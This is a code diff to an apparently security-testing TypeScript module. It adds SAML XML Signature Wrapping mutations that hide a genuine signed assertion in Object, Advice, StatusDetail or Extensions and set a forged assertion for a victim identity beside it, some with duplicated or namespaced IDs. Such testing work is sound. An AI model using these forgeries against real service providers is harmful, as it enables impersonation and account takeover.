@@ -3,7 +3,7 @@
 // The eight shapes are those of «On Breaking SAML» (USENIX Security 2012) as SAML Raider numbers them.
 
 import type { Facts, Mutation } from '../protocol/types.ts';
-import { insertAt, replaceSpan, rootOf } from '../protocol/xml-text.ts';
+import { insertAt, replaceSpan, rootOf, setAttribute } from '../protocol/xml-text.ts';
 import { child, first, outerOfFirst } from './elements.ts';
 import { asVictim, behindIssuer, eachAssertion, forgedAssertion, signatureOf, withoutOwnSignature } from './victim.ts';
 
@@ -88,22 +88,84 @@ export const genuineInObject = (): Mutation =>
     behindIssuer(forgedAssertion(facts, idOf(facts)), inside(signature, inObject(bare))),
   );
 
+/** The same, but the forged assertion has an ID of its own. */
+export const genuineInOwnObject = (): Mutation =>
+  wrapAssertion(({ bare, signature }, facts) =>
+    behindIssuer(forgedAssertion(facts, facts.newId()), inside(signature, inObject(bare))),
+  );
+
 /** Extensions hold the forged assertion, with the ID of the signed one, and come first. */
 export const forgedInExtensions = (): Mutation => extensions((_genuine, forged) => [forged, null]);
 
 /** Extensions hold the genuine signed assertion; the forged one, with its ID, stands where assertions stand. */
 export const genuineInExtensions = (): Mutation => extensions((genuine, forged) => [genuine, forged]);
 
+/** The genuine assertion stands in the Advice of the forged one. */
+export const genuineInAdvice = (): Mutation =>
+  wrapAssertion(({ signed }, facts) => {
+    const forged = forgedAssertion(facts, facts.newId());
+    return insertAt(forged, first(forged, 'Conditions').end, `<Advice>${signed}</Advice>`);
+  });
+
+/** StatusDetail holds the genuine assertion; the forged one stands in its place. */
+export const genuineInStatusDetail = (): Mutation => ({
+  afterSigning: (xml, facts) => {
+    const genuine = outerOfFirst(xml, 'Assertion');
+    const edited = replaceSpan(xml, first(xml, 'Assertion'), forgedAssertion(facts, facts.newId()));
+    const prefix = prefixOf(edited);
+    return insertAt(
+      edited,
+      first(edited, 'StatusCode').end,
+      `<${prefix}StatusDetail>${genuine}</${prefix}StatusDetail>`,
+    );
+  },
+});
+
+/** A forged assertion with the ID of the signed one stands before it. */
+export const sameIdBefore = (): Mutation =>
+  wrapAssertion(({ signed }, facts) => forgedAssertion(facts, idOf(facts)) + signed);
+
+/** The forged assertion before the signed one has an ID of its own, and a namespaced one that repeats the signed ID. */
+export const namespacedId = (): Mutation =>
+  wrapAssertion(({ signed }, facts) => {
+    const forged = forgedAssertion(facts, facts.newId());
+    const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';
+    const declared = setAttribute(forged, first(forged, 'Assertion'), 'xmlns:p', protocol);
+    return setAttribute(declared, first(declared, 'Assertion'), 'p:ID', idOf(facts) ?? '') + signed;
+  });
+
+/** Extensions hold a bare NameID of the victim; the signed assertion stays as it is. */
+export const bareNameId = (): Mutation => ({
+  afterSigning: (xml, facts) => {
+    const forged = forgedAssertion(facts, undefined);
+    const namespace = 'urn:oasis:names:tc:SAML:2.0:assertion';
+    const nameId = setAttribute(
+      outerOfFirst(forged, 'NameID'),
+      first(outerOfFirst(forged, 'NameID'), 'NameID'),
+      'xmlns',
+      namespace,
+    );
+    return withExtensions(xml, nameId);
+  },
+});
+
+function prefixOf(xml: string): string {
+  return first(xml, 'Response').name.slice(0, -'Response'.length);
+}
+
+function withExtensions(xml: string, content: string): string {
+  const status = child(xml, first(xml, 'Response'), 'Status');
+  if (!status) throw new Error('Expected a Status to put Extensions before, found none');
+  const prefix = prefixOf(xml);
+  return insertAt(xml, status.start, `<${prefix}Extensions>${content}</${prefix}Extensions>`);
+}
+
 function extensions(place: (genuine: string, forged: string) => [hidden: string, inPlace: string | null]): Mutation {
   return {
     afterSigning: (xml, facts) => {
       const [hidden, inPlace] = place(outerOfFirst(xml, 'Assertion'), forgedAssertion(facts, idOf(facts)));
       const edited = inPlace === null ? xml : replaceSpan(xml, first(xml, 'Assertion'), inPlace);
-      const response = first(edited, 'Response');
-      const status = child(edited, response, 'Status');
-      if (!status) throw new Error('Expected a Status to put Extensions before, found none');
-      const prefix = response.name.slice(0, -'Response'.length);
-      return insertAt(edited, status.start, `<${prefix}Extensions>${hidden}</${prefix}Extensions>`);
+      return withExtensions(edited, hidden);
     },
   };
 }
